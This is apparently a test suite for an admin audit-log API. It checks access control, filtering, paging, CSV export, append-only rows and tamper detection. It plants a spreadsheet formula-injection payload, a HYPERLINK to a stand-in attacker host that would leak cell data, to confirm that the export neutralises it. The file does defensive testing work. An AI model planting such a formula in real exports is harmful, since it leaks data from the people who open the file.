import { eq, sql } from 'drizzle-orm';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildTestApp } from '../../../test/build-test-app.ts';
import { buildUser } from '../../../test/factories/users.ts';
import { bearer, signIn } from '../../../test/helpers/auth.ts';
import { auditLog } from '../audit/audit.table.ts';
import { csvCell } from './csv.ts';

describe('administration: audit trail', () => {
  let app: FastifyInstance;
  let adminToken: string;
  let requerenteToken: string;
  let operatorId: number;
  const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"clique")';

  beforeAll(async () => {
    app = await buildTestApp();
    await app.ready();
    const admin = await buildUser(app.database.db, { isAdministrator: true, hasPanelAdminPermission: true });
    const requerente = await buildUser(app.database.db, { kind: 'requerente', loginPage: '/aet' });
    const operator = await buildUser(app.database.db, {
      name: 'OPERADORA DE TESTE',
      login: 'operadora.teste',
    });
    operatorId = operator.id;
    adminToken = await signIn(app, admin);
    requerenteToken = await signIn(app, requerente);
    const { audit } = app.services;
    for (let index = 0; index < 5; index++) {
      await audit.append(app.database.db, {
        action: 'admin.test.event',
        actorUserId: operator.id,
        ip: '10.0.0.1',
        target: `item:${index}`,
        details: { index },
      });
    }
    await audit.append(app.database.db, {
      action: 'auth.login.failure',
      actorLogin: EVIL,
      ip: '10.0.0.2',
      details: { note: EVIL, text: 'com ; ponto e vírgula e "aspas"' },
    });
  });
  afterAll(() => app.close());

  it.each([
    ['POST', '/api/admin/audit/list', {}],
    ['GET', '/api/admin/audit/exportCsv', undefined],
    ['POST', '/api/admin/audit/verify', undefined],
  ] as const)(
    'refuses %s %s to a requerente (403) and to anonymous callers (401)',
    async (method, url, payload) => {
      const asRequerente = await app.inject({ method, url, headers: bearer(requerenteToken), payload });
      expect(asRequerente.statusCode).toBe(403);
      const anonymous = await app.inject({ method, url, payload });
      expect(anonymous.statusCode).toBe(401);
    },
  );

  const list = (payload: Record<string, unknown>) =>
    app.inject({ method: 'POST', url: '/api/admin/audit/list', headers: bearer(adminToken), payload });

  it('filters by actor id, actor text and action prefix, newest first, with the actor name', async () => {
    const byId = await list({ actor: String(operatorId) });
    expect(byId.statusCode).toBe(200);
    const rows = byId.json().rows;
    expect(rows).toHaveLength(5);
    expect(rows.map((row: { target: string }) => row.target)).toEqual([
      'item:4',
      'item:3',
      'item:2',
      'item:1',
      'item:0',
    ]);
    expect(rows[0]).toMatchObject({
      actorUserId: operatorId,
      actorName: 'OPERADORA DE TESTE',
      actorLogin: 'operadora.teste',
      ip: '10.0.0.1',
      action: 'admin.test.event',
      details: { index: 4 },
    });

    const byText = await list({ actor: 'OPERADORA' });
    expect(byText.json().rows).toHaveLength(5);
    const byTypedLogin = await list({ actor: 'hyperlink' });
    expect(byTypedLogin.json().rows).toHaveLength(1);

    const byPrefix = await list({ actionPrefix: 'auth.login.f' });
    expect(byPrefix.json().rows.map((row: { action: string }) => row.action)).toEqual(['auth.login.failure']);
    // `_` and `%` are literal, not wildcards.
    expect((await list({ actionPrefix: 'admin_test' })).json().rows).toHaveLength(0);
  });

  it('filters by period', async () => {
    const future = await list({ from: '2999-01-01T00:00:00Z' });
    expect(future.json().rows).toEqual([]);
    const past = await list({ to: '2000-01-01T00:00:00Z' });
    expect(past.json().rows).toEqual([]);
    const all = await list({ from: '2000-01-01', to: '2999-01-01', actor: String(operatorId) });
    expect(all.json().rows).toHaveLength(5);
    const bad = await list({ from: 'ontem' });
    expect(bad.statusCode).toBe(400);
    expect(bad.json().details).toEqual([expect.objectContaining({ field: 'body.from' })]);
  });

  it('pages by id (keyset) and refuses pages above 200', async () => {
    const first = await list({ actor: String(operatorId), pageSize: 2 });
    expect(first.json().rows.map((row: { target: string }) => row.target)).toEqual(['item:4', 'item:3']);
    const nextBeforeId = first.json().nextBeforeId;
    expect(nextBeforeId).toBe(first.json().rows[1].id);
    const second = await list({ actor: String(operatorId), pageSize: 2, beforeId: nextBeforeId });
    expect(second.json().rows.map((row: { target: string }) => row.target)).toEqual(['item:2', 'item:1']);
    const last = await list({ actor: String(operatorId), pageSize: 2, beforeId: second.json().nextBeforeId });
    expect(last.json().rows.map((row: { target: string }) => row.target)).toEqual(['item:0']);
    expect(last.json().nextBeforeId).toBeNull();

    const tooBig = await list({ pageSize: 201 });
    expect(tooBig.statusCode).toBe(400);
    expect(tooBig.json().details).toEqual([expect.objectContaining({ field: 'body.pageSize' })]);
  });

  it('exports CSV with BOM, ";" separators and formula injection neutralised', async () => {
    const response = await app.inject({
      method: 'GET',
      url: '/api/admin/audit/exportCsv?actionPrefix=auth.login.failure',
      headers: bearer(adminToken),
    });
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toContain('text/csv');
    expect(response.headers['content-disposition']).toContain('attachment');
    const raw = response.rawPayload;
    expect([...raw.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = raw.toString('utf8').slice(1);
    const lines = text.split('\r\n').filter(Boolean);
    expect(lines[0]).toBe('ID;Data/hora (Brasília);ID do usuário;Nome;Login;IP;Ação;Alvo;Detalhes');
    expect(lines).toHaveLength(2);
    // The typed login is a cell of its own: it starts with ' (then quoted, as it holds quotes).
    expect(lines[1]).toContain(`;"'=HYPERLINK(""http://evil.example/?x=""&A1,""clique"")";`);
    // No cell starts with a formula character.
    for (const cell of lines[1]?.split(';') ?? []) expect(cell).not.toMatch(/^"?[=+\-@]/);
    expect(lines[1]).toContain('auth.login.failure');
  });

  it('exports every matching row across export batches, newest first, and records the export', async () => {
    // More rows than one export batch (500): the CSV is produced by keyset paging.
    const total = 520;
    for (let index = 0; index < total; index++)
      await app.services.audit.append(app.database.db, {
        action: 'admin.bulk.event',
        target: `bulk:${index}`,
      });
    const response = await app.inject({
      method: 'GET',
      url: '/api/admin/audit/exportCsv?actionPrefix=admin.bulk.',
      headers: bearer(adminToken),
    });
    expect(response.statusCode).toBe(200);
    const lines = response.rawPayload.toString('utf8').split('\r\n').filter(Boolean);
    expect(lines).toHaveLength(total + 1);
    const targets = lines.slice(1).map((line) => line.split(';')[7]);
    expect(targets[0]).toBe(`bulk:${total - 1}`);
    expect(targets.at(-1)).toBe('bulk:0');
    expect(new Set(targets).size).toBe(total);
    // Data/hora in Brasília time, dd/mm/yyyy.
    expect(lines[1]?.split(';')[1]).toMatch(/^\d{2}\/\d{2}\/\d{4},? \d{2}:\d{2}:\d{2}$/);

    const exported = await list({ actionPrefix: 'admin.audit.exported', pageSize: 1 });
    expect(exported.json().rows[0]).toMatchObject({
      action: 'admin.audit.exported',
      details: { actionPrefix: 'admin.bulk.' },
    });
  });

  it('refuses the trail to staff without the administration permission', async () => {
    const staff = await buildUser(app.database.db);
    const token = await signIn(app, staff);
    const response = await app.inject({
      method: 'POST',
      url: '/api/admin/audit/list',
      headers: bearer(token),
      payload: {},
    });
    expect(response.statusCode).toBe(403);
  });

  it('neutralises every formula-starting character in a cell', () => {
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('+55 11')).toBe("'+55 11");
    expect(csvCell('-2')).toBe("'-2");
    expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvCell('\tx')).toBe("'\tx");
    expect(csvCell('\rx')).toBe(`"'\rx"`);
    expect(csvCell('a;b')).toBe('"a;b"');
    expect(csvCell('plain')).toBe('plain');
  });

  it('cannot UPDATE or DELETE audit rows as the application', async () => {
    const [row] = await app.database.db.select().from(auditLog).limit(1);
    await expect(
      app.database.db
        .update(auditLog)
        .set({ ip: '6.6.6.6' })
        .where(eq(auditLog.id, row?.id ?? 0)),
    ).rejects.toThrow();
    await expect(app.database.db.delete(auditLog).where(eq(auditLog.id, row?.id ?? 0))).rejects.toThrow();
  });

  it('verifies the chain and reports a tampered row', async () => {
    const verify = () =>
      app.inject({ method: 'POST', url: '/api/admin/audit/verify', headers: bearer(adminToken) });
    const clean = await verify();
    expect(clean.statusCode).toBe(200);
    expect(clean.json()).toMatchObject({ ok: true });
    expect(clean.json().checked).toBeGreaterThan(5);

    const [target] = await app.database.db
      .select()
      .from(auditLog)
      .where(eq(auditLog.target, 'item:2'))
      .limit(1);
    // As a DBA would: the append-only trigger must be disabled first.
    await app.database.db.execute(sql`alter table audit_log disable trigger audit_log_append_only`);
    await app.database.db
      .update(auditLog)
      .set({ ip: '6.6.6.6' })
      .where(eq(auditLog.id, target?.id ?? 0));
    await app.database.db.execute(sql`alter table audit_log enable trigger audit_log_append_only`);
    const tampered = await verify();
    expect(tampered.json()).toMatchObject({ ok: false, firstTamperedId: target?.id });
  });
});
